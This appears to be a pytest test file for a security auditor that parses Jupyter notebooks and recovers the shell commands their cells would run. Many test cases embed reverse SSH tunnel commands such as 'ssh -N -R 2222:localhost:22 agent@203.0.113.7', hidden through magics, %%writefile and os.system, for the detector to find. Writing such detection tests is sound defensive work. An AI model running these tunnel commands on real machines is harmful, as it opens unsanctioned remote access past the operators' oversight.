"""Notebooks: cells in order, shell lines, magics, kernels, and places that point into the notebook."""

from __future__ import annotations

import json

import pytest

from auditor.model.gap import Why
from auditor.model.reading import Reading
from auditor.model.unit import Language
from auditor.read.carriers.notebook import as_python
from auditor.settings import Limits
from tests.read.carriers.readings import TUNNEL, effects_of, line_of, lines_of, read


def notebook(*cells: str, kernel: str = "python", indent: int | None = 1) -> str:
    """Write a notebook of format 4 with these code cells."""
    code: list[dict[str, object]] = [
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": cell.splitlines(True)}
        for cell in cells
    ]
    metadata = {"kernelspec": {"display_name": kernel, "language": kernel, "name": kernel}}
    return json.dumps({"cells": code, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}, indent=indent)


def effects(*cells: str) -> list[str]:
    return effects_of(notebook(*cells), Language.NOTEBOOK)


def old_notebook(*cells: str) -> str:
    """Write a notebook of format 3, whose cells stand in worksheets and whose code is `input`."""
    code = [{"cell_type": "code", "input": cell.splitlines(True), "language": "python"} for cell in cells]
    return json.dumps({"metadata": {"name": ""}, "nbformat": 3, "worksheets": [{"cells": code}]}, indent=1)


def test_cells_share_one_process() -> None:
    """A name set in one cell is known in the next."""
    assert TUNNEL in effects("target = 'agent@203.0.113.7'", f"import os\nos.system('{TUNNEL[:-17]}' + target)")


@pytest.mark.parametrize(
    "cells",
    [
        (f"!{TUNNEL}",),
        (f"  !{TUNNEL}",),
        (f"out = !{TUNNEL}",),
        ("port = 2222", "!ssh -N -R {port}:localhost:22 agent@203.0.113.7"),
        ("port = 2222", "!ssh -N -R $port:localhost:22 agent@203.0.113.7"),
        ("!ssh -N \\\n  -R 2222:localhost:22 agent@203.0.113.7",),
        (f"%%bash\nset -e\n{TUNNEL}",),
        (f"%%sh\n{TUNNEL}",),
        (f"%%script bash --out x\n{TUNNEL}".replace(" --out x", ""),),
        (f"%%script python3\nimport os\nos.system('{TUNNEL}')",),
        (f"%sx {TUNNEL}",),
        (f"%system {TUNNEL}",),
        (f"%%writefile run.sh\n{TUNNEL}\n", "!bash run.sh"),
        (f"%%writefile run.sh\n{TUNNEL}\n", "%run run.sh"),
        (f"%%writefile run.py\nimport os\nos.system('{TUNNEL}')\n", "%run run.py"),
        ("%env HOST=203.0.113.7", "!ssh -N -R 2222:localhost:22 agent@$HOST"),
        ("%set_env HOST 203.0.113.7", "!ssh -N -R 2222:localhost:22 agent@$HOST"),
        (f"%%time\n!{TUNNEL}",),
        (f"%time !{TUNNEL}",),
        (f"%%capture out\nimport os\nos.system('{TUNNEL}')",),
        (f"get_ipython().system('{TUNNEL}')",),
    ],
    ids=range(21),
)
def test_the_command_is_recovered(cells: tuple[str, ...]) -> None:
    """However a cell starts a program, the program is read."""
    assert TUNNEL in effects(*cells)


def test_directory_of_cells() -> None:
    """`%cd` moves what follows: a file written there is found by its whole path."""
    assert TUNNEL in effects("%cd /tmp", f"%%writefile a.sh\n{TUNNEL}\n", "!bash /tmp/a.sh")


def test_variables_of_the_shell_stay_the_shells() -> None:
    """`$HOME` is no name of Python here, and `{{` is a brace."""
    assert effects("x = 1", "!ls $HOME") == ["ls ~"]
    assert "awk" in as_python("!awk '{{print $1}}' file")


def test_old_format() -> None:
    """Notebooks of format 3 are read the same."""
    assert effects_of(old_notebook("x = 1", f"!{TUNNEL}"), Language.NOTEBOOK) == [TUNNEL]


def test_prose_and_pages_do_nothing() -> None:
    """Markdown cells, pages shown by the browser, and help requests have no effect and leave no gap."""
    text = json.loads(notebook("%%html\n<b>x</b>", "%%javascript\nalert(1)", "%matplotlib inline", "print?", "len??"))
    text["cells"].append({"cell_type": "markdown", "metadata": {}, "source": [f"!{TUNNEL}\n"]})
    assert effects_of(json.dumps(text), Language.NOTEBOOK) == []


@pytest.mark.parametrize("indent", [1, 2, 4])
def test_places_point_into_the_notebook(indent: int) -> None:
    """A finding's line is that of the notebook's text where the cell's line stands."""
    text = notebook(
        "# ünïcode\nx = 'a\\tb'",
        f"import os\n\nos.system({TUNNEL!r})",
        "%%bash\ntrue\nssh -N -L 1:x.example:2 b.example",
        indent=indent,
    )
    reading = read(text, Language.NOTEBOOK)
    assert "os.system" in text.split("\n")[line_of(reading, TUNNEL) - 1]
    assert "%%bash" in text.split("\n")[line_of(reading, "ssh -N -L 1:x.example:2 b.example") - 1]


def test_equal_lines_keep_their_order() -> None:
    """The same line in two cells points to each of them in turn."""
    text = notebook("import os", "os.system('true a')\nx = 1", "os.system('true a')\nos.system('id')")
    assert "os.system('id')" in text.split("\n")[line_of(read(text, Language.NOTEBOOK), "id") - 1]


def test_a_notebook_on_one_line_is_read_too() -> None:
    """Without lines to point at, the commands are still found."""
    reading = read(notebook("x = 1", f"!{TUNNEL}", indent=None), Language.NOTEBOOK)
    assert lines_of(reading) == [TUNNEL]
    assert line_of(reading, TUNNEL) == 1


@pytest.mark.parametrize("kernel", ["R", "julia", "scala"])
def test_another_kernel_is_a_gap(kernel: str) -> None:
    """Cells that nothing reads are never silent."""
    assert [gap.why for gap in read(notebook("x <- 1", kernel=kernel), Language.NOTEBOOK).gaps] == [Why.NO_READER]


def test_a_cell_in_another_language_is_a_gap() -> None:
    """One foreign cell is named; the others are read."""
    reading = read(notebook("%%R\nsystem('id')", f"!{TUNNEL}"), Language.NOTEBOOK)
    assert lines_of(reading) == [TUNNEL]
    assert [gap.what for gap in reading.gaps] == ["cells in R"]


HOSTILE = {
    "no JSON": "{",
    "a list": "[1, 2]",
    "a number": "7",
    "deep": "[" * 200_000,
    "deep object": '{"cells":' * 20_000,
    "cells of nothing": '{"cells": [null, 1, {"cell_type": "code"}, {"cell_type": "code", "source": [1, null]}]}',
    "cells as text": '{"cells": "x", "worksheets": {"cells": 1}, "metadata": [], "nbformat": "x"}',
    "NUL": notebook("x = 1\0"),
    "long line": notebook("x = '" + "a" * 600_000 + "'"),
    "many cells": notebook(*["%%bash"] * 3_000),
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_notebooks_are_survived(text: str) -> None:
    """Nothing raises, and what is no notebook says so."""
    reading = read(text, Language.NOTEBOOK, limits=Limits(read_seconds=3))
    assert isinstance(reading, Reading)
    assert reading.effects == ()
